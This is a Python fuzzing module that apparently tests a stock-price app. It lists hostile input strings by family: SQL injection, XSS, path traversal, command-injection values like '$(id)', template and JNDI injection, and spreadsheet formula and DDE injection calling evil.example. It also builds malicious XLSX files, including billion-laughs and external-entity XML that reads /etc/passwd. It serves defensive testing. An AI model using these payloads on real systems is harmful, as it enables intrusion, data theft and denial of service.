"""What somebody puts into an address or a file to do harm: 200 strings in families, and workbooks
made to break their reader.
"""

import io
import random
import zipfile

PAYLOADS = {
    "sql": [
        "' OR '1'='1",
        "'; DROP TABLE prices; --",
        "0700.HK' UNION SELECT * FROM prices --",
        "1; ATTACH '/etc/passwd' AS x",
        "'||(SELECT 1)||'",
        "') OR 1=1 --",
        '" OR ""="',
        "'; COPY prices TO '/etc/x'; --",
        "0700.HK'--",
        "0700.HK/**/OR/**/1=1",
        "read_csv('/etc/passwd')",
        "$$; SELECT 1; $$",
        "?",
        "$1",
        ":name",
        "%",
        "_",
        "%%%",
        "\\'",
        "''",
        "'",
        '"',
        "`",
        ";",
        "--",
        "/*",
        "*/",
        "NULL",
        "1e999",
        "0x41",
        "SELECT",
        "PRAGMA database_list",
        "getenv('HOME')",
        "E'\\x27'",
        "1/0",
    ],
    "script": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style>*{display:none}</style>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<form action=//evil.example><input type=submit>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<scr<script>ipt>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<img src=`x` onerror=alert(1)>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<video><source onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "</title><script>alert(1)</script>",
        '"onmouseover=alert(1) x="',
    ],
    "markdown": [
        "![x](http://evil.example/x.png)",
        "[x](http://evil.example)",
        "[x](javascript:alert(1))",
        "![](//evil.example/x.png)",
        "<http://evil.example>",
        "[x]: http://evil.example",
        "**bold**",
        "# heading",
        "> quote",
        "- item",
        "1. item",
        "`code`",
        "```\ncode\n```",
        "---",
        "| a | b |\n|---|---|",
        "~~gone~~",
        "[^1]",
        ":red[x]",
        ":orange-background[x]",
        ":material/delete:",
        ":streamlit:",
        ":smile:",
        ":rainbow[x]",
        "{.class}",
        "\\",
        "\\\\",
        "*",
        "_x_",
        "https://evil.example",
        "www.evil.example",
        "x@evil.example",
        "==x==",
    ],
    "latex": [
        "$\\int$",
        "$$x$$",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\url{http://evil.example}$",
        "\\(x\\)",
        "\\[x\\]",
        "$\\includegraphics{http://evil.example/x.png}$",
        "$\\def\\x{\\x\\x}\\x$",
        "$\\htmlId{x}{y}$",
        "$" + "{" * 40 + "$",
    ],
    "path": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "....//....//etc/passwd",
        "%2e%2e%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc",
        "CURRENT",
        ".",
        "..",
        "~",
        "~root",
        "C:\\",
        "\\\\evil.example\\share",
        "harbourview-../../x",
        "20260101-000000-abcdef/../../x",
        "x.duckdb",
        "x\x00.duckdb",
        "con",
        "/dev/zero",
        "-rf",
        "--help",
        "|id",
        "$(id)",
        "`id`",
        "; id",
        "&& id",
    ],
    "template": [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{as_of}",
        "{0}",
        "{}",
        "{0.__class__}",
        "{parameter!r}",
        "%(x)s",
        "%s",
        "%n",
        "%x",
        "{% debug %}",
        "{{config}}",
        "${jndi:ldap://evil.example/x}",
        "{" * 50,
        "}" * 50,
        "__import__('os').system('id')",
        "@{x}",
    ],
    "unicode": [
        "\u0000",
        "a\u0000b",
        "\ufeff0700.HK",
        "\u200b",
        "\u202e0700.HK",
        "\u2066x\u2069",
        "０７００．ＨＫ<script>",
        "ﷺ" * 20,
        "\ud7ff",
        "\U0010ffff",
        "\ufffe",
        "𝟎𝟕𝟎𝟎<x>",
        "K\u212a",
        "ı",
        "ß" * 30,
        "e" + "\u0301" * 100,
        "\u1f600",
        "👩‍👩‍👧‍👦",
        "＜script＞alert(1)＜/script＞",
        "\u2028alert(1)",
        "\u0085",
        "腾讯'; --",
        "\x1b[31m",
        "\x07",
        "\r\nSet-Cookie: x=1",
        "a\nb",
        "\t",
        "\x7f",
        "Тencent",
        "0700\u00b7HK",
    ],
    "long": [
        "A" * 201,
        "A" * 5_000,
        "9" * 400,
        "-" * 5_000,
        " " * 300 + "x",
        "0700.HK" * 500,
        "<b>" * 1_000,
        "(" * 1_000,
        "," * 20 + "<x>",
        "1e" + "9" * 300,
        "-1",
        "0",
        "99999999999999999999",
        "NaN",
        "Infinity",
        "true",
        "[]",
        '{"a":1}',
        "null",
        "undefined",
        "1970-01-01T00:00:00",
        "2026-02-30",
        "9999-12-31",
        "0000-00-00",
        "-2026-01-01",
    ],
    "sheet": [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("http://evil.example","x")',
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1",
        "－1+x",
        "＠SUM(1)",
        '=WEBSERVICE("http://evil.example")',
        '=IMPORTXML("http://evil.example","//a")',
        'DDE("cmd";"/C calc";"x")',
        "@dde",
    ],
}
STRINGS = [text for family in PAYLOADS.values() for text in family]
# Of each family the worst, for what costs a run of a page.
CHIEF = [
    "'; DROP TABLE prices; --",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/x.png)<svg/onload=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "../../etc/passwd",
    "{0.__class__}{{7*7}}",
    "a\u0000\u202eb",
    "<b>" * 1_000,
    '=HYPERLINK("http://evil.example","x")',
]

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
FOREIGN = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'


def xlsx(sheet: str, strings: str = "", head: str = '<?xml version="1.0"?>') -> bytes:
    """An XLSX of one sheet with this XML between <sheetData> and its end, and these shared
    strings.
    """
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        packed.writestr(
            "[Content_Types].xml",
            (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
            ),
        )
        packed.writestr(
            "_rels/.rels",
            (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ),
        )
        packed.writestr(
            "xl/workbook.xml",
            (
                f'<workbook {MAIN} xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" '
                'r:id="r1"/></sheets></workbook>'
            ),
        )
        packed.writestr(
            "xl/_rels/workbook.xml.rels",
            (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet" '
                'Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
                f'Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
            ),
        )
        packed.writestr(
            "xl/worksheets/sheet1.xml",
            f"{head}<worksheet {MAIN}><sheetData>{sheet}</sheetData></worksheet>",
        )
        packed.writestr("xl/sharedStrings.xml", f"<sst {MAIN}>{strings}</sst>")
    return content.getvalue()


def cell(text: str, place: str = "A1") -> str:
    return (
        f'<row r="{place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{place}" '
        f't="inlineStr"><is><t>{text}</t></is></c></row>'
    )


def many(rows: int, letters: int) -> bytes:
    """100 cells a row that all show one string: a few KB on disk, rows x 100 x letters once
    read.
    """
    cells = '<c t="s"><v>0</v></c>' * 100
    return xlsx(
        "".join(f'<row r="{row}">{cells}</row>' for row in range(1, rows + 1)),
        f"<si><t>{'x' * letters}</t></si>",
    )


def noise(letters: int) -> str:
    """Text that does not pack well."""
    return "".join(random.Random(1).choices("abcdefghijklmnop", k=letters))
